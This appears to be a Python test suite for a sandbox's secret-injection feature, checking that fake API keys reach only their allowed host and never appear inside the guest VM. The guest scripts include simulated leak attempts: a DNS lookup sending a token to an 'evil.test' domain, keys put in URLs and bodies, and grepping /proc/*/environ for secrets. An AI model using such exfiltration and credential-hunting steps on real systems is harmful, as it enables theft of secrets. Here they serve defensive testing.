# SPDX-License-Identifier: Apache-2.0
"""Secrets that are used for a real guest and are not in it: --secret and its kin, with Debian's own clients and a server
with an authority of its own, all on this host's loopback."""

import base64
import contextlib
import http.server
import json
import os
import pathlib
import re
import shlex
import shutil
import socket
import subprocess

import harness
from harness import directory, expect, expect_equal, expect_in, run_json, wait_until
from test_ways import Names, authority, serving, tool, ways

KEY = "sk-ant-api03-" + "onlyTheHostKnows0123456789" * 2
TOKEN = "ghp_AnotherSecretOfTheHost0123456789abcdef"


class Api(http.server.BaseHTTPRequestHandler):
    """Serves those who have the key, and says again what they sent."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def reply(self, status, body):
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def handle_any(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        given = self.headers.get("x-api-key") or self.headers.get("Authorization", "").removeprefix("Bearer ")
        if given.startswith("Basic "):
            given = base64.b64decode(given[6:]).decode().partition(":")[2]
        self.server.told.append((self.command, self.path, given, body))
        if self.path.startswith("/repo.git/") and given == self.server.keys[1]:
            file = self.server.place / self.path.split("?")[0].lstrip("/")
            return self.reply(200, file.read_bytes()) if file.is_file() else self.reply(404, b"")
        if given not in self.server.keys:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="test"')
            self.send_header("Content-Length", "0")
            return self.end_headers()
        return self.reply(200, f"yes, {self.command} by {given}, {len(body)} bytes\n".encode())

    do_GET = do_POST = handle_any


@contextlib.contextmanager
def api(place):
    """A server for api.test: (its port, what it was told)."""
    authority(place, "api.test")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Api)
    server.handle_error = lambda *_: None  # a request that was stopped ends in the middle
    server.place, server.told, server.keys = place, [], [KEY, TOKEN]
    with serving(server, place) as port:
        yield port, server.told


def host(place, **more):
    """The environment of a host that trusts the test's authority and has the key."""
    return {**os.environ, "SSL_CERT_FILE": str(place / "ca.pem"), "API_KEY": KEY, **more}


def found_in(pid, words):
    """Which of @words are in a process's memory."""
    found = set()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            tail = b""
            for at in range(begin, end, 1 << 22):
                try:
                    memory.seek(at)
                    piece = tail + memory.read(min(1 << 22, end - at))
                except (OSError, ValueError, OverflowError):
                    break
                found |= {word for word in words if word in piece}
                tail = piece[-200:]
    return found


PYTHON = r"""
import os, sys, urllib.request, urllib.error
url = sys.argv[1]
def ask(path, data=None, **headers):
    try:
        request = urllib.request.Request(url + path, data, {k.replace('_', '-'): v for k, v in headers.items()})
        return urllib.request.urlopen(request).read().decode().strip()
    except urllib.error.HTTPError as error: return '%d %s' % (error.code, error.read().decode().strip())
    except OSError as error: return type(error).__name__
key = os.environ['API_KEY']
print(ask('/', x_api_key=key).replace(key, 'PLACE'))
print(ask('/', b'x' * 100000, x_api_key=key).replace(key, 'PLACE'))
print(ask('/?' + key, x_api_key=key).split(':')[0])
print(ask('/', key.encode(), x_api_key=key).split(':')[0])
import socket
try: socket.getaddrinfo(os.environ.get('TOKEN', 'none') + '.evil.test', 443)
except OSError as error: print(error.errno == socket.EAI_NONAME)
"""

NODE = ("fetch(process.argv[1], {headers: {authorization: 'Bearer ' + process.env.API_KEY}}).then(r => r.text())"
        ".then(t => console.log(t.replace(process.env.API_KEY, 'PLACE').trim()), e => console.log(String(e.cause)))")


def test_clients():
    """curl, git, Python and Node, by their environment alone."""
    with directory() as place, directory() as tools:
        for name in ("curl", "node"):
            tool(name, tools)
        (place / "origin").mkdir()
        git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", str(place / "origin")]
        for words in (["init", "-q"], ["commit", "-q", "--allow-empty", "-m", "first"]):
            subprocess.run([*git, *words], check=True, capture_output=True)
        subprocess.run(["git", "clone", "-q", "--bare", place / "origin", place / "repo.git"], check=True, capture_output=True)
        subprocess.run(["git", "-C", place / "repo.git", "update-server-info"], check=True)
        (place / "token").write_text(TOKEN + "\n")
        with api(place) as (port, told), Names({"api.test": ["127.0.0.1"]}) as names:
            url = f"https://api.test:{port}"
            script = (f"cd /tmp; python3 -c {shlex.quote(PYTHON)} {url};"
                      f"LD_LIBRARY_PATH={tools} {tools}/curl -sS -H \"x-api-key: $API_KEY\" {url}/ | sed s/$API_KEY/PLACE/;"
                      f"LD_LIBRARY_PATH={tools} {tools}/curl -sS -u user:$TOKEN {url}/ | sed s/$TOKEN/PLACE/;"
                      f"LD_LIBRARY_PATH={tools} {tools}/node -e {shlex.quote(NODE)} {url};"
                      f"git clone -q https://user:$TOKEN@api.test:{port}/repo.git && git -C repo log --format=%s;"
                      "echo $API_KEY | cut -c1-13; printf %s $API_KEY | wc -c; printf %s $TOKEN | wc -c;"
                      "cat /proc/*/environ 2>&1 | grep -c onlyTheHost")
            result, outcome = run_json(*ways(names, f"127.0.0.1:{port}"), "--secret", f"API_KEY@api.test:{port}",
                                       "--secret-cmd", f"TOKEN=cat {place}/token@api.test:{port}", "--share", f"{tools}:ro",
                                       "--memory", "1G", "--", "sh", "-c", script, env=host(place), limit=300)
            expect_equal(result.out.splitlines(),
                         ["yes, GET by PLACE, 0 bytes", "yes, POST by PLACE, 100000 bytes", "403 mvagent", "403 mvagent", "True",
                          "yes, GET by PLACE, 0 bytes", "yes, GET by PLACE, 0 bytes", "yes, GET by PLACE, 0 bytes", "first",
                          "sk-ant-api03-", str(len(KEY)), str(len(TOKEN)), "0"], f"clients: {result.err[-1500:]}")
            expect(all(given in (KEY, TOKEN, "") for _, _, given, _ in told), f"keys that the server got: {told}")
            for part in (f"api.test:{port}: a request was stopped: it has the placeholder of API_KEY in its query",
                         "a name with the placeholder of TOKEN in it was asked for"):
                expect_in(part, result.err)
            expect(KEY not in result.err and TOKEN not in result.err, "a secret in what the user is told")
            used = {(secret["name"], secret["host"]): secret["used"] for secret in outcome["network"]["secrets"]}
            # One more than was answered: its head was sent before its body was looked at.
            expect_equal(used[("API_KEY", "api.test")], 5, "uses of API_KEY")
            expect(used[("TOKEN", "api.test")] >= 2, f"uses of TOKEN: {used}")
            expect(outcome["network"]["secrets_masked"] >= 5, f"{outcome['network']['secrets_masked']} were masked")


@contextlib.contextmanager
def nghttpd(place):
    """A server for api.test that speaks HTTP/2 alone: its port. What it hears is in @place/heard."""
    if not shutil.which("nghttpd"):
        raise harness.Skip("there is no nghttpd on this host")
    authority(place, "api.test")
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    with open(place / "heard", "wb") as heard:
        process = subprocess.Popen(["nghttpd", "-v", "-a", "127.0.0.1", "-d", str(place / "files"), "--echo-upload", str(port), "server.key", "server.pem"],
                                   cwd=place, stdout=heard, stderr=heard)
    try:
        yield port
    finally:
        process.kill()
        process.wait()


def test_http2():
    """curl and nghttpd: a key in a head and in an answer, a body each way, 40 streams at once, a key where none belongs."""
    with directory() as place, directory() as tools:
        tool("curl", tools)
        (place / "files").mkdir()
        (place / "files/said").write_text(f"you said {KEY}\n")
        with nghttpd(place) as port, Names({"api.test": ["127.0.0.1"]}) as names:
            url = f"https://api.test:{port}"
            curl = f"LD_LIBRARY_PATH={tools} {tools}/curl -sS --http2"
            script = (f"key=\"x-api-key: $API_KEY\"; cd /tmp;"
                      f"{curl} -w '%{{http_version}} %{{http_code}}\\n' -H \"$key\" {url}/said | sed s/$API_KEY/PLACE/;"
                      f"head -c 4000000 /dev/zero | {curl} -H \"$key\" --data-binary @- -o up -w '%{{http_version}} %{{http_code}}\\n' {url}/up;"
                      "head -c 4000000 /dev/zero | cmp - up && echo same;"
                      f"{curl} -Z --parallel-max 40 -H \"$key\" \"{url}/said?[1-40]\" | grep -c \"^you said $API_KEY\";"
                      f"{curl} -w '%{{http_version}} %{{http_code}}\\n' \"{url}/said?$API_KEY\" | cut -c1-8;")
            result, outcome = run_json(*ways(names, f"127.0.0.1:{port}"), "--secret", f"API_KEY@api.test:{port}", "--share", f"{tools}:ro",
                                       "--", "sh", "-c", script, env=host(place), limit=200)
            expect_equal(result.out.splitlines(), ["you said PLACE", "2 200", "2 200", "same", "40", "mvagent:", "2 403"], f"{result.err[-1500:]}")
            heard = re.sub(r"\x1b\[[0-9;]*m", "", (place / "heard").read_text(errors="replace"))
            expect_equal(heard.count(f"x-api-key: {KEY}"), 42, "times that the server got the key")
            expect_in(f"api.test:{port}: a request was stopped: it has the placeholder of API_KEY in its query", result.err)
            used = {secret["name"]: secret["used"] for secret in outcome["network"]["secrets"]}
            expect_equal((used, outcome["network"]["secrets_masked"]), ({"API_KEY": 42}, 41), "what was used and masked")


HOLD = r"""
import os, sys, time, urllib.request
key = os.environ['API_KEY']
request = urllib.request.Request(sys.argv[1], None, {'x-api-key': key})
print(urllib.request.urlopen(request).read().decode().replace(key, 'PLACE'), flush=True)
open('written', 'w').write(key)
sys.stdin.read()
"""


def test_nowhere_in_the_guest():
    """While the secret is in use: it is in no memory but that of mvagent-secret, in no file of the share, in no record."""
    if os.getuid():
        raise harness.Skip("another user's memory cannot be read")
    with directory() as place, directory() as share, directory() as records:
        with api(place) as (port, told), Names({"api.test": ["127.0.0.1"]}) as names:
            (place / "key").write_text(KEY)
            with harness.start(*ways(names, f"127.0.0.1:{port}"), "--secret-file", f"API_KEY={place}/key@api.test:{port}",
                               "--share", str(share), "--memory", "256M", "--record", str(records), "--", "python3", "-c", HOLD,
                               f"https://api.test:{port}/", env={**os.environ, "SSL_CERT_FILE": str(place / "ca.pem")},
                               stdin=subprocess.PIPE) as process:
                try:
                    said = process.stdout.readline()
                    expect(said.startswith(b"yes, GET by PLACE"), f"{said!r}")
                    wait_until((share / "written").exists, "the guest's file")
                    placeholder = None
                    seen = {}
                    for pid, command in harness.processes().items():
                        name = pathlib.Path(command.split()[0]).name
                        words = {KEY.encode(), KEY[20:].encode()}
                        seen[name] = found_in(pid, words)
                        for part in ("cmdline", "environ"):
                            expect(KEY.encode() not in pathlib.Path(f"/proc/{pid}/{part}").read_bytes(), f"{part} of {name}")
                    wait_until(lambda: (share / "written").stat().st_size == len(KEY), "the whole file")
                    placeholder = (share / "written").read_bytes()
                    machine = next(pid for pid, command in harness.processes().items() if "mvagent-vmm" in command)
                    expect(found_in(machine, {placeholder}), "the guest's memory was not searched: its placeholder is not there")
                finally:
                    process.stdin.close()
                    error = process.stderr.read().decode()
                    status = process.wait(harness.LIMIT)
                expect_equal(status, 0, error)
            expect_equal(sorted(name for name, words in seen.items() if words), ["mvagent-secret"], "processes that have the secret")
            expect({"mvagent", "mvagent-vmm", "mvagent-fs", "mvagent-blk", "mvagent-relay"} <= set(seen), f"processes: {seen}")
            expect_equal([given for _, _, given, _ in told], [KEY], "what the server got")
            for path in list(share.rglob("*")) + list(records.rglob("*")):
                expect(not path.is_file() or KEY[20:].encode() not in path.read_bytes(), f"the secret is in {path}")
            lines = [json.loads(line) for path in records.rglob("*.jsonl") for line in path.read_text().splitlines()]
            secrets = [line for line in lines if line["event"] == "secret"]
            expect([(line["secret"], line["host"], line["what"], line["count"]) for line in secrets]
                   == [("API_KEY", "api.test", what, 1) for what in ("used", "masked")],
                   f"the record: {secrets}")
            start = next(line for line in lines if line["event"] == "start")
            expect_equal(start["policy"]["secrets"], [{"name": "API_KEY", "hosts": [f"api.test:{port}"]}], "the policy")


def test_servers_that_are_not_trusted():
    """The host does not trust the authority: nothing is sent, and the program and the user learn why."""
    with directory() as place, api(place) as (port, told), Names({"api.test": ["127.0.0.1"]}) as names:
        environment = {key: value for key, value in host(place).items() if key != "SSL_CERT_FILE"}
        result = harness.run(*ways(names, f"127.0.0.1:{port}"), "--secret", f"API_KEY@api.test:{port}", "--", "python3", "-c", PYTHON,
                             f"https://api.test:{port}", env=environment)
        expect_in("502 mvagent", result.out)
        expect_in(f"api.test:{port} was not trusted with a secret: its certificate is not good", result.out)
        expect_equal(told, [], "requests")


def test_options_that_are_wrong():
    for words, part in ((["--secret", "API_KEY"], "give NAME"), (["--secret", "NOT_SET@api.test"], "it is not set"),
                        (["--secret", "API_KEY@*.test"], "not the full name of a host"),
                        (["--secret", "API_KEY@127.0.0.1"], "not the full name of a host"),
                        (["--secret", "SHORT@api.test"], "too short"), (["--secret", "LINES@api.test"], "one line"),
                        (["--secret-file", "A=/nowhere@api.test"], "cannot read it"),
                        (["--secret-cmd", "A=exit 3@api.test"], "failed with status 3"),
                        (["--secret", "API_KEY@a.test", "--secret", "API_KEY@b.test"], "given before"),
                        (["--secret", "API_KEY@a.test", "--env", "API_KEY"], "give one of them")):
        result = harness.run(*words, "--", "true", env={**os.environ, "API_KEY": KEY, "SHORT": "short", "LINES": "a-line\nand-another"})
        expect_equal(result.status, 125, f"status with {words}")
        expect(part in result.err and KEY not in result.err, f"{words}: {result.err}")


if __name__ == "__main__":
    harness.main(globals())
